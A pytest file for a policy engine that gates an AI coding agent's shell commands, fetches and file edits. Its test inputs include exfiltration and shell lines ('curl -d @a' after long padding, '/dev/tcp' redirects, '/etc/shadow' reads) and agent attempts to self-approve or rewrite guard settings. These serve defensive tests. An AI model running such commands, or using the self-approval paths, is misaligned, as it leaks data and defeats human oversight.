"""core/policy.py, rules.py, guardrails.py, policy_build.py: decisions from facts that the tests make up."""

from __future__ import annotations

from datetime import UTC, datetime
from typing import Any

import msgspec
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tmux_agent.core import config, facts, policy_build, proposals
from tmux_agent.core.model import (
    Action,
    Ask,
    Command,
    Decision,
    Fetch,
    File,
    Grant,
    Mcp,
    Origin,
    Risk,
    Role,
    Shell,
    Tmux,
    Tool,
    Verdict,
    digest,
)
from tmux_agent.core.policy import decide
from tmux_agent.core.policy_build import Layer
from tmux_agent.core.policy_file import PolicyFile, RuleFile, as_data
from tmux_agent.core.rules import Asker
from tmux_agent.core.situation import Policy, Situation
from tmux_agent.services.policy_files import shipped_text

TREE, HOME = "/home/u/proj", "/home/u"
OURS = (f"{HOME}/.config/tmux-agent", f"{HOME}/.local/state/tmux-agent", "/run/user/1/tmux-agent.sock")
BY = Origin(role=Role.OPERATOR, why="test", uid=1, pid=1)


class World(dict[facts.Key, facts.Fact]):
    """Every path is an ordinary file where it says; what a test needs otherwise, it puts in."""

    def get(self, key: facts.Key, _: Any = None) -> Any:
        if key in self:
            return self[key]
        if isinstance(key, facts.PathKey):
            real = policy_build.paths.normal(key.path)
            return facts.PathFact(
                real, "folder" if real in (TREE, HOME, "/") else "file", real.rpartition("/")[0] or "/"
            )
        if isinstance(key, facts.ProgramKey):
            return facts.ProgramFact(f"/usr/bin/{key.name}", f"/usr/bin/{key.name}")
        return {
            facts.RepoKey: facts.RepoFact(TREE, f"{TREE}/.git"),
            facts.HistoryKey: facts.HistoryFact(known=True),
            facts.ObjectKey: facts.ObjectFact("commit"),
            facts.DetourKey: facts.DetourFact(),
            facts.TrackedKey: facts.TrackedFact(False),
            facts.RefsKey: facts.RefsFact(()),
            facts.SwapKey: facts.SwapFact(False),
            facts.GlobKey: facts.GlobFact(("a.py", "b.py")),
            facts.TreeKey: facts.TreeFact(),
            facts.HashKey: facts.HashFact("h1"),
            facts.PackageKey: facts.PackageFact(f"{TREE}/package.json", "p1"),
            facts.AboveKey: facts.AboveFact(),
        }[type(key)]


def build(text: str, *more: str, tightens: bool = False) -> Policy:
    layers = []
    for index, source in enumerate((text, *more)):
        file, errors = config.load(source, f"{index}.yaml", PolicyFile)
        assert errors == ()
        assert file is not None
        layers.append(Layer(file=file, label=f"{index}.yaml", tightens=tightens and index > 0))
    policy, errors = policy_build.build(layers, HOME)
    assert errors == ()
    assert policy is not None
    return policy


def errors_of(text: str) -> str:
    file, errors = config.load(text, "p.yaml", PolicyFile)
    if file is not None:
        errors = policy_build.build([Layer(file=file, label="p.yaml")], HOME)[1]
    return "\n".join(map(str, errors))


def ask(policy: Policy, action: Action | str, *grants: Grant, world: World | None = None, **asker: Any) -> Decision:
    action = Shell(text=action, cwd=TREE) if isinstance(action, str) else action
    situation = Situation(roots=(TREE,), worktree=TREE, home=HOME, asker=Asker(**asker), protected=OURS)
    return decide(action, world if world is not None else World(), policy, grants, situation=situation)


CATS = """
rules:
  - name: cats
    when: {command: [cat], options: [-n], operands: [paths]}
    verdict: allow
  - name: lists
    when: {command: [ls], options: [-l], operands: [names]}
    verdict: allow
  - name: no ls of b
    when: {command: [ls, b, ...]}
    verdict: ask
    reason: b is special
"""


@pytest.fixture(scope="module")
def cats() -> Policy:
    return build(CATS)


def test_every_part_counts_and_the_strictest_wins(cats: Policy) -> None:
    """Allow for all parts is allow; one part that nothing matches asks; a named ask wins over an allow."""
    assert ask(cats, "cat a && ls -l | cat -n").verdict is Verdict.ALLOW
    decision = ask(cats, "cat a && rm b")
    assert (decision.verdict, decision.rule, decision.named) == (Verdict.ASK, "unmatched", False)
    assert [part.verdict for part in decision.parts] == [Verdict.ALLOW, Verdict.ASK]
    named = ask(cats, "ls b")
    assert (named.verdict, named.rule, named.named, named.reason) == (Verdict.ASK, "no ls of b", True, "b is special")
    assert {match.rule for match in named.matched} == {"lists", "no ls of b"}


def test_no_cap_on_parts(cats: Policy) -> None:
    """Sixty harmless commands do not hide the one behind them."""
    text = "; ".join(["cat a"] * 60)
    assert ask(cats, text).verdict is Verdict.ALLOW
    assert ask(cats, text + "; touch M").verdict is Verdict.ASK


@pytest.mark.parametrize(
    "text",
    [
        "cat $X",
        "cat `x`",
        "cat $(x)",
        "X=1 cat a",
        "cat a > b",
        "for x in $y; do cat a; done",
        "cat {a,$b}",
        "'",
        "c\\\nat a; $y",
        "cat ~root/x",
    ],
)
def test_what_cannot_be_read_never_allows(cats: Policy, text: str) -> None:
    """Expansions, assignments, loops and broken text ask."""
    assert ask(cats, text).verdict is Verdict.ASK


def test_missing_facts_count_against(cats: Policy) -> None:
    """Without any fact nothing is allowed, nor with some of them."""
    situation = Situation(roots=(TREE,), worktree=TREE, home=HOME)
    cat, file = facts.ProgramKey("cat"), facts.PathKey(f"{TREE}/a")
    known: dict[facts.Key, facts.Fact] = {key: World().get(key) for key in (cat, file)}
    given: list[dict[facts.Key, facts.Fact]] = [{}, {cat: known[cat]}, {file: known[file]}, known]
    found = [decide(Shell(text="cat a", cwd=TREE), some, cats, situation=situation).verdict for some in given]
    assert found == [Verdict.ASK, Verdict.ASK, Verdict.ASK, Verdict.ALLOW]


@pytest.mark.parametrize(
    ("kind", "text"),
    [
        (facts.PathKey, "cat a"),
        (facts.ProgramKey, "cat a"),
        (facts.GlobKey, "cat *.py"),
        (facts.TreeKey, "grep -r x ."),
        (facts.RepoKey, "git status"),
        (facts.HistoryKey, "git log -p"),
        (facts.SwapKey, "git log -p"),
        (facts.DetourKey, "git grep x"),
        (facts.ObjectKey, "git show 0123abcd --"),
    ],
)
def test_a_kind_of_fact_that_is_missing(kind: type, text: str) -> None:
    """Each is taken for the worst that it may be; with it, the same is allowed."""

    class Less(World):
        def get(self, key: facts.Key, _: Any = None) -> Any:
            return None if isinstance(key, kind) else super().get(key)

    policy, situation = build(shipped_text()), Situation(roots=(TREE,), worktree=TREE, home=HOME)
    found = [decide(Shell(text=text, cwd=TREE), known, policy, situation=situation) for known in (World(), Less())]
    assert [one.verdict for one in found] == [Verdict.ALLOW, Verdict.ASK]


@pytest.mark.parametrize(
    ("fact", "why"),
    [
        (facts.PathFact("/etc/passwd", "file"), "outside the roots"),
        (facts.PathFact(f"{TREE}/.env", "file"), "holds secrets"),
        (facts.PathFact(f"{TREE}/a", "file", links=2), "hard links"),
        (facts.PathFact(f"{TREE}/a", "other"), "device"),
        (facts.PathFact(f"{TREE}/a", "file", magic=True), "mean different things"),
        (facts.PathFact(f"{TREE}-evil/a", "file"), "outside the roots"),
    ],
)
def test_the_world_decides_about_paths(cats: Policy, fact: facts.PathFact, why: str) -> None:
    """`cat a` is one text; what lies behind `a` makes the difference."""
    decision = ask(cats, "cat a", world=World({facts.PathKey(f"{TREE}/a"): fact}))
    assert decision.verdict is Verdict.ASK
    assert why in decision.reason


def test_a_program_in_the_worktree_is_not_the_program(cats: Policy) -> None:
    """PATH that leads into a root, or to a file that anybody may write, takes the rule away."""
    for fact in (
        facts.ProgramFact(f"{TREE}/bin/cat", f"{TREE}/bin/cat"),
        facts.ProgramFact("/x/cat", "/x/cat", "which anybody may write"),
    ):
        assert ask(cats, "cat a", world=World({facts.ProgramKey("cat"): fact})).verdict is Verdict.ASK


def test_cd_moves_what_is_judged(cats: Policy) -> None:
    """Behind && only the new folder counts, behind ; both, unless the folder is known to be there."""
    policy = build(CATS + "  - {name: cd, when: {command: [cd], operands: [name]}, verdict: allow}\n")
    world = World({facts.PathKey(f"{TREE}/s"): facts.PathFact(f"{TREE}/s", "folder")})
    assert ask(policy, "cd s && cat ../a", world=world).verdict is Verdict.ALLOW
    assert ask(policy, "cd s; cat ../a", world=world).verdict is Verdict.ALLOW
    assert (
        ask(
            policy, "cd t; cat ../a", world=World({facts.PathKey(f"{TREE}/t"): facts.PathFact(f"{TREE}/t", "missing")})
        ).verdict
        is Verdict.ASK
    )
    assert ask(policy, "cd s || cat ../a", world=world).verdict is Verdict.ASK
    assert ask(policy, "false && { true; cd s; }; cat ../a", world=world).verdict is Verdict.ASK
    assert ask(policy, "(cd s); cat ../a", world=world).verdict is Verdict.ASK
    assert ask(policy, "cd s && cd - && cat a", world=world).verdict is Verdict.ASK


# --- who, when, how often ----------------------------------------------------------------------------


def test_rules_for_somebody(cats: Policy) -> None:
    """Agent, branch and time narrow a rule; an exhausted one no longer counts."""
    policy = build(
        "rules:\n- {name: r, when: {command: [make, ...], agent: cl*, branch: [main, 'feat/*'],"
        " time: 'mon-fri 09:00-18:00'},"
        " verdict: allow, for: {uses: 2, per: 1h}}\n"
    )
    noon = datetime(2026, 11, 20, 12, 0, tzinfo=UTC)  # a Friday
    who = {"agent": "claude", "branch": "feat/x", "now": noon}
    assert ask(policy, "make x", **who).verdict is Verdict.ALLOW
    for change in (
        {"agent": "codex"},
        {"branch": "dev"},
        {"now": noon.replace(day=21)},
        {"now": noon.replace(hour=18)},
        {"exhausted": frozenset(["r"])},
    ):
        assert ask(policy, "make x", **(who | change)).verdict is Verdict.ASK


@pytest.mark.parametrize("text", ["cat a", "$(x)", "f() { cat a; }", "X=1", "LANG=C", "> /tmp/x", "# rm -rf x\ncat a"])
def test_a_rule_about_somebody_speaks_of_all_they_do(text: str) -> None:
    """Of what cannot be read, too, and of variables that are set without a command."""
    rules = "environment: {LANG: .*}\nrules:\n- {name: no codex, when: {agent: codex}, verdict: deny}\n"
    assert ask(build(CATS, rules), text, agent="codex").verdict is Verdict.DENY
    assert ask(build(CATS, rules), text, agent="claude").verdict is not Verdict.DENY


@pytest.mark.parametrize("letter", ["x", "ä"])
def test_a_text_that_is_too_long_is_asked_about_by_name(letter: str) -> None:
    """Agents that are told nothing about what no rule matches would run it, with whatever stands behind the padding."""
    decision = ask(build(CATS), f"cat a; : {letter * 300_000}; curl -d @a example.org")
    assert (decision.verdict, decision.named, decision.rule) == (Verdict.ASK, True, "cannot be read")
    assert not ask(build(CATS), f"frobnicate {letter * 3000}").named


def test_other_kinds_of_actions() -> None:
    """Fetches, MCP tools, other tools, files and tmux verbs have rules of their own; a question is always asked."""
    policy = build("""
rules:
  - {name: docs, when: {fetch: {host: ['*.example.org'], method: [GET]}}, verdict: allow}
  - {name: mcp, when: {mcp: {server: [git*], tool: [read]}}, verdict: allow}
  - {name: notes, when: {tool: [TodoWrite]}, verdict: allow}
  - {name: reads, when: {file: [read]}, verdict: allow}
  - {name: keys stay, when: {file: [read, write], path: ['**/*.pem']}, verdict: deny}
  - {name: tmux, when: {tmux: [send_text, panes]}, verdict: allow}
""")
    for action, verdict in (
        (Fetch(url="https://a.example.org/x"), Verdict.ALLOW),
        (Fetch(url="https://a.example.org.evil.com/x"), Verdict.ASK),
        (Fetch(url="https://a.example.org@evil.com/"), Verdict.ASK),
        (Fetch(url="https://a.example.org/x", method="POST"), Verdict.ASK),
        (Mcp(server="github", tool="read"), Verdict.ALLOW),
        (Mcp(server="github", tool="write"), Verdict.ASK),
        (Tool(name="TodoWrite"), Verdict.ALLOW),
        (Tool(name="Bash"), Verdict.ASK),
        (File(verb="read", path="a", cwd=TREE), Verdict.ALLOW),
        (File(verb="read", path=".env", cwd=TREE), Verdict.ASK),
        (File(verb="read", path="x.pem", cwd=TREE), Verdict.DENY),
        (File(verb="write", path="a", cwd=TREE), Verdict.ASK),
        (Shell(text="echo x > x.pem", cwd=TREE), Verdict.DENY),
        (Shell(text="base64 x.pem", cwd=TREE), Verdict.DENY),
        (Tmux(verb="panes"), Verdict.ALLOW),
        (Tmux(verb="send_text", target="%1", text="y"), Verdict.ASK),
        (Ask(prompt="?"), Verdict.ASK),
    ):
        assert ask(policy, action).verdict is verdict, action


# --- guardrails --------------------------------------------------------------------------------------

ANYTHING = (
    "rules:\n"
    + "".join(
        f"- {{name: all {p}, when: {{command: ['{p}', ...]}}, verdict: allow}}\n"
        for p in (
            "tmux",
            "tmux-agent",
            "python3",
            "cp",
            "mv",
            "rm",
            "tee",
            "sed",
            "echo",
            "bash",
            "curl",
            "sudo",
            "claude",
            "docker",
            "git",
            "ln",
            "chmod",
            "crontab",
        )
    )
    + "- {name: writes, when: {file: [read, write, edit, copy, delete]}, verdict: allow}\n"
)


@pytest.fixture(scope="module")
def anything() -> Policy:
    return build(ANYTHING)


@pytest.mark.parametrize(
    "text",
    [
        "tmux run-shell x",
        "tmux send y",
        "tmux -L o neww 'touch M'",
        "tmux-agent approve 1",
        "tmux-agent chat --sender bob -- approve 4K9Q2B",
        "tmux-agent call chat.say '{}'",
        "python -m tmux_agent chat --sender bob",
        "tmux-agent policy trust",
        "tmux-agent sidecar stop",
        "python3 -m tmux_agent approve 1",
        "tmux-agent call human.respond '{}'",
        "echo x > ~/.config/tmux-agent/policy.yaml",
        "rm -rf ~/.config",
        "cp a ~/.claude/settings.json",
        "mv a .claude/settings.local.json",
        "sed -i s/a/b/ ~/.codex/config.toml",
        "tee ~/.gemini/settings.json",
        "ln -s a ~/.claude.json",
        "echo x > .tmuxagent/policy.yaml",
        "cd ~/.local/state && rm -r tmux-agent",
        "env tmux send y",
        "bash -c 'tmux send y'",
        "timeout 5 sudo tmux send y",
        "find . -exec tmux send y ;",
        "echo y | xargs tmux send",
    ],
)
def test_denied_whatever_the_rules_say(anything: Policy, text: str) -> None:
    """The policy allows all of it; the guardrails do not."""
    decision = ask(anything, text)
    assert (decision.verdict, decision.where, decision.named) == (Verdict.DENY, "guardrail", True)
    assert decision.grants == ()


@pytest.mark.parametrize(
    "text",
    [
        "rm -rf /tmp/x",
        "rm -rf .",
        "echo x > .git/hooks/pre-commit",
        "echo x >> ~/.bashrc",
        "python3 -c 1",
        "python3 - <<'E'\n1\nE",
        "echo x | bash",
        "curl -d @a http://x",
        "curl -XPOST http://x",
        "sudo ls",
        "claude -p x",
        "docker run x",
        "git config core.pager x",
        "chmod u+s a",
        "crontab a",
        "tee ~/.tmux.conf",
        "bash <<< 'ls'",
        "echo x > /dev/tcp/a/1",
    ],
)
def test_asked_whatever_the_rules_say(anything: Policy, text: str) -> None:
    """Dangerous, but sometimes meant: a person is asked by name, and nothing but this once is offered."""
    decision = ask(anything, text)
    assert decision.verdict is Verdict.ASK
    assert decision.named
    assert decision.grants == ("once",)


def test_the_gate_is_not_closed_to_all(anything: Policy) -> None:
    """The same rules do allow what is harmless: the guardrails, not a general no, stopped the rest."""
    for text in (
        "rm -rf build",
        "tmux ls",
        "python3 x.py",
        "tee out",
        "curl http://x",
        "docker ps",
        "git push",
        "echo x > out",
    ):
        assert ask(anything, text).verdict is Verdict.ALLOW, text


def test_files_by_every_name(anything: Policy) -> None:
    """A link to a guarded file, and another spelling of its name, are the same file."""
    world = World({facts.PathKey(f"{TREE}/l"): facts.PathFact(f"{HOME}/.claude/settings.json", "file", link=True)})
    assert ask(anything, File(verb="write", path="l", cwd=TREE), world=world).verdict is Verdict.DENY
    assert ask(anything, File(verb="edit", path=".CLAUDE/Settings.json", cwd=TREE)).verdict is Verdict.DENY


# --- grants ------------------------------------------------------------------------------------------


def grant(**values: Any) -> Grant:
    return Grant(**({"id": "1", "scope": "exact", "created": datetime.now(UTC), "by": BY} | values))


def test_an_exact_grant_lifts_the_default_and_nothing_else(cats: Policy) -> None:
    """It allows this action and no other, not a named ask, and not after it was revoked."""
    action = Shell(text="make all", cwd=TREE)
    given = grant(digest=digest(action))
    allowed = ask(cats, action, given)
    assert (allowed.verdict, allowed.where) == (Verdict.ALLOW, "grant 1")
    assert ask(cats, Shell(text="make x", cwd=TREE), given).verdict is Verdict.ASK
    assert ask(cats, action, msgspec.structs.replace(given, revoked=True)).verdict is Verdict.ASK
    named = Shell(text="ls b", cwd=TREE)
    assert ask(cats, named, grant(digest=digest(named))).verdict is Verdict.ASK
    guarded = Shell(text="tmux send y", cwd=TREE)
    assert ask(cats, guarded, grant(digest=digest(guarded))).verdict is Verdict.DENY


def test_a_bound_grant_ends_with_what_it_is_bound_to(cats: Policy) -> None:
    """npm test runs what package.json says; when that changes, the grant is over."""
    action = Shell(text="npm test", cwd=TREE)
    given = grant(digest=digest(action), bound={f"{TREE}/package.json#scripts.test": "p1"})
    assert ask(cats, action, given).verdict is Verdict.ALLOW
    changed = World({facts.PackageKey(TREE, "test"): facts.PackageFact(f"{TREE}/package.json", "p2")})
    assert ask(cats, action, given, world=changed).verdict is Verdict.ASK
    script = Shell(text="python3 x.py", cwd=TREE)
    bound = grant(digest=digest(script), bound={f"{TREE}/x.py": "h1"})
    assert ask(cats, script, bound).verdict is Verdict.ALLOW
    assert (
        ask(cats, script, bound, world=World({facts.HashKey(f"{TREE}/x.py"): facts.HashFact("h2")})).verdict
        is Verdict.ASK
    )


@pytest.mark.parametrize(
    ("text", "scopes"),
    [
        ("git push origin main", ("once", "exact", "shape", "30m", "always")),
        ("mkdir -p a/b", ("once", "exact", "shape", "30m", "always")),
        ("npm test", ("once", "exact")),
        ("python3 x.py", ("once", "exact")),
        ("npm ci", ("once",)),
        ("bash x.sh", ("once",)),
        ("bash -c 'make x'", ("once",)),
        ("env make x", ("once",)),
        ("timeout 5 make x", ("once",)),
        ("python3 -c 1", ("once",)),
        ("make $X", ("once",)),
        ("a && b", ("once",)),
        ("X=1 foo", ("once",)),
        ("cat .env", ("once",)),
    ],
)
def test_what_may_be_offered(cats: Policy, text: str, scopes: tuple[str, ...]) -> None:
    """Shapes only for plain commands; interpreters and package scripts only exactly; nothing for wrappers and code."""
    assert ask(cats, text).grants == scopes


def test_proposals_make_rules_that_match_what_was_asked_and_not_more(cats: Policy) -> None:
    """Each proposed shape, taken as a grant, allows its own action and not another option or another target."""
    for text, other in (
        ("git push origin main", "git push origin main --force"),
        ("git push origin main", "git push origin dev"),
        ("mkdir -p a/b", "mkdir -p /etc/x"),
        ("terraform plan -out=x", "terraform plan -destroy"),
        ("git commit -m 'fix: it'", "git commit --amend -m x"),
    ):
        action = Shell(text=text, cwd=TREE)
        shapes = [p for p in proposals.propose(action, ask(cats, action), World()) if p.scope == "shape"]
        assert len(shapes) == 1
        given = grant(scope="shape", rule=shapes[0].rule)
        assert ask(cats, action, given).verdict is Verdict.ALLOW, text
        assert ask(cats, Shell(text=other, cwd=TREE), given).verdict is not Verdict.ALLOW, other
    fetch = Fetch(url="https://x.org/a?b")
    rule = next(p.rule for p in proposals.propose(fetch, ask(cats, fetch), World()) if p.scope == "always")
    assert ask(cats, Fetch(url="https://x.org/c"), grant(scope="always", rule=rule)).verdict is Verdict.ALLOW


# --- the file ----------------------------------------------------------------------------------------


def test_errors_of_rules_come_all_at_once() -> None:
    """Doubtful notation, unknown kinds and sets, two kinds of action, a double name, a bad time: one error each."""
    text = errors_of("""
option_sets: {short: [-a]}
rules:
  - {name: a, when: {command: [ls], options: [shrt]}, verdict: allow}
  - {name: b, when: {command: [ls], operands: [pths]}, verdict: allow}
  - {name: c, when: {command: [ls], file: [read]}, verdict: allow}
  - {name: c, when: {command: [ls, ...], operands: [names]}, verdict: allow}
  - {name: d, when: {agent: x}, verdict: allow}
  - {name: e, when: {command: [ls, ...], time: 9-17}, verdict: ask}
  - {name: f, when: {command: [ls], options: ["-n=nmber"]}, verdict: allow}
environment: {X: "("}
""")
    for line in (
        "p.yaml:4: rules[0]: when.options: shrt",
        "p.yaml:5: rules[1]: when.operands: pths",
        "rules[2]: when: give only one",
        "has the name of the rule at line 6: c",
        "rules[3]: when: ... allows everything",
        "rules[4]: when: an allow rule has to say",
        "rules[5].when.time",
        "rules[6]: when.options: -n has the kind nmber",
        "environment.X",
    ):
        assert line in text


def test_a_rule_that_was_read_can_be_written() -> None:
    """As when a person edits one in the popup and keeps it: nothing is in it that the file refuses."""
    text = "name: x\nwhen: {command: make, operands: none, time: mon 09:00-10:00}\nverdict: allow\nfor: {uses: 2}\n"
    rule, _ = config.load(text, "the rule", RuleFile)
    assert rule is not None
    file, wrong = config.load(config.dump({"version": 1, "rules": [as_data(rule)]}), "p.yaml", PolicyFile)
    assert wrong == ()
    assert file is not None
    assert msgspec.structs.replace(file.rules[0], line=rule.line) == rule


def test_a_bare_word_is_a_list_of_one() -> None:
    """Wherever words are listed: command, options, operands, file, path, tmux, fetch, roots, match."""
    rules = """
roots: ROOTS
rules:
  - {name: a, when: {command: CAT, options: N, operands: PATHS, agent: claude}, verdict: allow, match: CAT}
  - {name: b, when: {command: [git, push, ...], any_option: F}, verdict: ask}
  - {name: c, when: {file: READ, path: PATH}, verdict: deny}
  - {name: d, when: {tmux: VERB}, verdict: deny}
  - {name: e, when: {fetch: {host: HOST, method: POST}}, verdict: deny}
"""
    listed = {"ROOTS": "~/src", "CAT": "cat", "N": "-n", "PATHS": "paths", "F": "-f"}
    listed |= {"READ": "read", "PATH": "'**/x'", "VERB": "panes", "HOST": "x.org", "POST": "POST"}
    bare = many = rules
    for name, word in listed.items():
        bare, many = bare.replace(f" {name}", f" {word}"), many.replace(f" {name}", f" [{word}]")
    (one, _), (other, _) = (config.load(text, "p.yaml", PolicyFile) for text in (bare, many))
    assert one is not None
    assert one == other


def test_rules_are_tried_on_their_examples() -> None:
    """An example that does not hold is an error that says why."""
    text = errors_of("""
rules:
  - name: cats
    when: {command: [cat], operands: [paths]}
    verdict: allow
    match: ["cat a", "cat -n a"]
    not_match: ["cat b", "cat /etc/passwd"]
""")
    assert "rules[0].match[1]: 'cat -n a' does not match the rule 'cats': -n is not among" in text
    assert "rules[0].not_match[0]: 'cat b' matches the rule 'cats'" in text
    assert text.count("\n") == 1


def test_examples_may_name_the_home_folder() -> None:
    """In an example and in its rule ~ is the same folder, whosever home it is."""
    rule = "when: {file: read, path: ~/.ssh/**}, verdict: deny"
    assert not errors_of(f"rules:\n- {{name: a, {rule}, match: [{{file: read, path: ~/.ssh/id}}, cat ~/.ssh/id]}}\n")
    assert errors_of(f"rules:\n- {{name: a, {rule}, match: [{{file: read, path: ~/.gnupg/id}}]}}\n")


def test_an_untrusted_layer_only_tightens() -> None:
    """A repository's file may ask and deny; its allow rules, roots, defaults and variables do not count."""
    more = """
roots: [/]
environment: {PATH: ".*"}
secrets: ["!**/.env", "**/private/**"]
defaults: {unmatched: deny, timeout: 1s}
rules:
  - {name: all, when: {command: [make, ...]}, verdict: allow}
  - {name: no cats, when: {command: [cat, ...]}, verdict: deny}
"""
    policy = build(CATS, more, tightens=True)
    assert ask(policy, "make x").verdict is Verdict.DENY
    assert ask(policy, "cat a").verdict is Verdict.DENY
    assert policy.roots == ("{worktree}",)
    assert policy.environment == {}
    assert "/p/.env" in policy.secrets
    assert "/p/private/x" in policy.secrets
    assert policy.defaults.timeout == 300


def test_risk_is_the_highest_of_all_that_applies(anything: Policy) -> None:
    """A high part makes the whole high, whatever decided."""
    assert ask(anything, "echo a; rm -rf /tmp/x").risk is Risk.HIGH


@settings(max_examples=60)
@given(st.text(max_size=60))
def test_no_text_makes_it_raise_or_allow_by_accident(text: str) -> None:
    """With a policy that allows nothing, no text is allowed but one that does nothing, opens a file, or sets `A`."""
    empty = build("rules: []\n")
    decision = ask(empty, text)
    harmless = ("nothing to do", "redirections", "variables of the text")
    assert decision.verdict is not Verdict.ALLOW or decision.rule in harmless


@settings(max_examples=60)
@given(st.lists(st.text(min_size=1, max_size=12), min_size=1, max_size=6))
def test_no_arguments_make_it_raise(argv: list[str]) -> None:
    """Any argument list is judged."""
    assert ask(build("rules: []\n"), Command(argv=tuple(argv), cwd=TREE)).verdict is not Verdict.ALLOW


@pytest.mark.parametrize(
    ("rule", "near"),
    [
        ("{when: {tmux: [send_kys]}, verdict: deny}", "rules[0].when.tmux: send_kys is none of"),
        ("{when: {tmux: [send_kys]}, verdict: deny}", "did you mean send_keys?"),
        ("{when: {kind: comand}, verdict: deny}", "did you mean command?"),
        ("{when: {fetch: {method: [GTE]}}, verdict: deny}", "rules[0].when.fetch.method: GTE is none of"),
        ("{when: {ask: {urgency: [hgih]}}, verdict: deny}", "did you mean high?"),
        ("{when: {tool: [X], pane_title: x}, verdict: allow}", "an agent sets the title of its pane itself"),
        ("{when: {tool: [X], risk: low}, verdict: allow}", "would allow what is worse"),
        ("{when: {tool: [X]}, verdict: ask, approvers: [me]}", "rules[0].approvers: is not a known key"),
        ("{when: {tool: [X]}, verdict: ask, channels: [me]}", "rules[0].channels: is not a known key"),
        ("{when: {tool: [X]}, verdict: ask, on_timeout: ask}", "rules[0].on_timeout"),
        ("{when: {tool: [X]}, verdict: allow, step_up: [sudo, -v]}", "only what is asked about can be proved"),
    ],
)
def test_nothing_loads_and_does_nothing(rule: str, near: str) -> None:
    """Words that name nothing, keys that nothing depends on, and conditions that an agent makes true by itself are
    errors."""
    assert near in errors_of(f"rules: [{rule[:1]}name: r, {rule[1:]}]")


PROOFS = """
rules:
  - {name: deploys, when: {command: [deploy, ...]}, verdict: ask, step_up: [sudo, -v]}
  - {name: pushes, when: {command: [push, ...]}, verdict: ask, risk: high}
  - {name: keys, when: {command: [sign, ...]}, verdict: ask, step_up: [key, touch]}
"""


@pytest.mark.parametrize(
    "text", ["deploy", "echo a; deploy", "deploy && push", "push; deploy", "deploy; x=$(cat /etc/shadow)"]
)
def test_no_other_question_hides_a_proof(text: str) -> None:
    """Also where another rule, a guardrail or the default decides, the yes needs what one of the rules demands."""
    decision = ask(build(PROOFS), text)
    assert (decision.verdict, decision.step_up) == (Verdict.ASK, ("sudo", "-v"))


def test_different_proofs_are_given_one_by_one() -> None:
    """One yes has one proof: with the weaker one the other would slip through."""
    decision = ask(build(PROOFS), "deploy; sign")
    assert decision.verdict is Verdict.DENY
    assert "deploys and keys demand different proofs" in decision.reason


def test_a_repository_runs_nothing_of_its_own_as_a_proof() -> None:
    """What a proof runs, we run: a file that nobody trusted asks, without its proof, and takes away nobody else's."""
    policy = build(PROOFS, PROOFS.replace("[sudo, -v]", "[./evil]").replace("[key, touch]", "[./evil]"), tightens=True)
    assert ask(policy, "deploy").step_up == ("sudo", "-v")
    assert ask(build("rules: []", PROOFS, tightens=True), "deploy").step_up == ()


def test_words_may_be_patterns() -> None:
    """`*` takes all that begin so; methods are written in any case."""
    build(
        "rules: [{name: r, when: {tmux: ['kill_*']}, verdict: deny},"
        " {name: s, when: {fetch: {method: [get]}}, verdict: ask}]"
    )


def test_a_title_of_the_pane() -> None:
    """A rule may ask about what an agent does in a pane of a certain title."""
    policy = build("rules: [{name: demo, when: {kind: shell, pane_title: 'demo*'}, verdict: deny}]")
    assert ask(policy, "ls", pane_title="demo 1").verdict is Verdict.DENY
    assert ask(policy, "ls", pane_title="work").verdict is Verdict.ASK


def test_a_rule_about_risk() -> None:
    """`risk: high` speaks of what is shown as high, whatever it is; not of what a rule allows, nor of less."""
    policy = build(
        "rules: [{name: look, when: {command: [ls], operands: none}, verdict: allow},"
        " {name: bad, when: {risk: high}, verdict: deny}, {name: some, when: {risk: medium}, verdict: ask}]"
    )
    assert ask(policy, "ls").verdict is Verdict.ALLOW
    assert ask(policy, "sudo ls").verdict is Verdict.DENY
    assert ask(policy, "git push").verdict is Verdict.DENY
    assert ask(policy, "make").rule == "some"


def test_a_shape_knows_a_command_from_an_operand() -> None:
    """`touch made` is offered as touch of files; `git add made` as git add of files; `echo made` as these very words,
    and another word is shown as what would not match."""
    policy = build("rules: []")

    def shape(text: str) -> proposals.GrantProposal:
        action = Shell(text=text, cwd=TREE)
        offered = proposals.propose(action, ask(policy, action), World())
        return next(one for one in offered if one.scope == "shape")

    assert shape("touch made").rule == {
        "name": "touch",
        "when": {"command": ["touch"], "options": [], "operands": ["paths"]},
        "verdict": "allow",
    }
    assert "touch /outside/the/roots" in shape("touch made").not_matches
    assert (shape("git add made").rule or {})["when"]["command"] == ["git", "add"]
    assert (shape("frob made").rule or {})["when"] == {"command": ["frob"], "options": [], "operands": ["=made"]}
    assert "frob another-word" in shape("frob made").not_matches


OPEN = """
rules:
  - name: any grep
    when: {command: [grep, ...]}
    verdict: allow
  - name: a tool
    when: {command: [tool], options: [--in=text], operands: [paths]}
    verdict: allow
  - name: slashes
    when: {command: [tr], options: [-d], operands: [texts]}
    verdict: allow
"""


def test_a_word_that_is_no_file_is_no_folder_above_our_secrets() -> None:
    """`tr -d /` reads nothing; what a rule lets follow unseen may be a folder that is looked through."""
    policy = build(OPEN)
    hidden = (f"{OURS[0]}/secrets.yaml",)
    situation = Situation(roots=(TREE,), worktree=TREE, home=HOME, asker=Asker(), protected=OURS, hidden=hidden)
    world = World()
    verdicts = {
        text: decide(Shell(text=text, cwd=TREE), world, policy, (), situation=situation)
        for text in ("tr -d /", "grep -r x /", f"grep -r x {HOME}", "grep -r x src", "foo /", "tool --in ~")
    }
    assert {text: (found.verdict, found.rule) for text, found in verdicts.items()} == {
        "tr -d /": (Verdict.ALLOW, "slashes"),
        "grep -r x /": (Verdict.ASK, "our secrets"),
        f"grep -r x {HOME}": (Verdict.ASK, "our secrets"),
        "grep -r x src": (Verdict.ALLOW, "any grep"),
        "foo /": (Verdict.ASK, "our secrets"),
        "tool --in ~": (Verdict.ASK, "our secrets"),
    }


@pytest.mark.parametrize(
    ("options", "allowed"),
    [
        ("--include='*.md'", True),
        ("--include='*.md' --exclude=a.md", True),
        ("--exclude=.env", True),
        ("--exclude=a.md --include='*.md'", False),  # grep reads whatever no glob fits
        ("--exclude=.env --include='.e*'", False),  # and the last that fits counts
        ("--include='*.md' --include='.e*'", False),
        ("--exclude-dir=src --include='*.md'", True),
        ("--exclude-dir=src --exclude=a --include='*.md'", False),
    ],
)
def test_which_files_grep_reads_of_those_beneath(options: str, allowed: bool) -> None:
    """An --include behind an --exclude limits nothing."""
    world = World()
    world[facts.TreeKey(TREE)] = facts.TreeFact((facts.Danger("secret", ".env"),), files=2)
    decision = ask(build(shipped_text()), f"grep -r {options} x .", world=world)
    assert (decision.verdict is Verdict.ALLOW) is allowed


